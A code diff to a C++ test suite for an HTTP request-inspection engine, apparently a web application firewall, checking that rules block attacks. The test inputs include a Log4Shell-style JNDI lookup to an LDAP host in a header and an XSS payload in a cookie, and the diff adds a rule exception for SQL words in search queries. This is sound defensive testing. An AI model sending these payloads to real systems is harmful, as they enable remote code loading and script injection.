@@ -1,5 +1,6 @@
 // Parsers + detect together: raw HTTP/1 requests through the real parser
-// into the TransactionInspector with the example ruleset. Checks that the
+// into the TransactionInspector with the default ruleset (configs/rules) plus
+// one test exception for /api/search. Checks that the
 // fields the parser emits (zones, names, raw values) are what rules expect.
 
 #include <gtest/gtest.h>
@@ -14,14 +15,29 @@
 namespace weir::detect {
 namespace {
 
+constexpr const char* kSearchException = R"(
+exceptions:
+  - id: "test-search"
+    comment: "free-text search may contain SQL words and quotes"
+    endpoint: {prefix: /api/search}
+    zones: [query_arg]
+    names: [q]
+    classes: [sqli]
+)";
+
 class HttpInspectionTest : public ::testing::Test {
  protected:
-  void SetUp() override {
+  // The default ruleset takes seconds to compile: once for the suite.
+  static void SetUpTestSuite() {
     const char* root = std::getenv("WEIR_SOURCE_ROOT");
     ASSERT_NE(root, nullptr);
-    RuleSet rs;
-    load_rules_file(std::string(root) + "/configs/rules/examples.yaml", rs);
+    RuleSet rs = load_rules_dir(std::string(root) + "/configs/rules");
+    load_rules_text(kSearchException, "test-exceptions.yaml", rs);
     snap_ = PolicySnapshot::compile(rs);
+  }
+  static void TearDownTestSuite() { snap_.reset(); }
+  void SetUp() override {
+    ASSERT_NE(snap_, nullptr);
     sink_.set_snapshot(snap_.get());
   }
 
@@ -48,7 +64,7 @@ class HttpInspectionTest : public ::testing::Test {
     HttpInspectionTest& t_;
   };
 
-  std::shared_ptr<const PolicySnapshot> snap_;
+  static inline std::shared_ptr<const PolicySnapshot> snap_;
   InspectionEngine engine_;
   TransactionInspector sink_{engine_};
   VerdictAction last_ = VerdictAction::Pass;
@@ -72,7 +88,7 @@ TEST_F(HttpInspectionTest, AttackInJsonBodyHeaderAndCookie) {
   EXPECT_EQ(inspect("GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://198.18.0.7/a}\r\n\r\n",
                     &rules),
             VerdictAction::Reset) << rules;
-  EXPECT_NE(rules.find("ex-jndi-001@header:x-api-version"), std::string::npos) << rules;
+  EXPECT_NE(rules.find("jndi-100@header:x-api-version"), std::string::npos) << rules;
   EXPECT_EQ(inspect("GET / HTTP/1.1\r\nHost: a\r\nCookie: theme=dark; pref=<svg onload=alert(1)>\r\n\r\n",
                     &rules),
             VerdictAction::Reset) << rules;
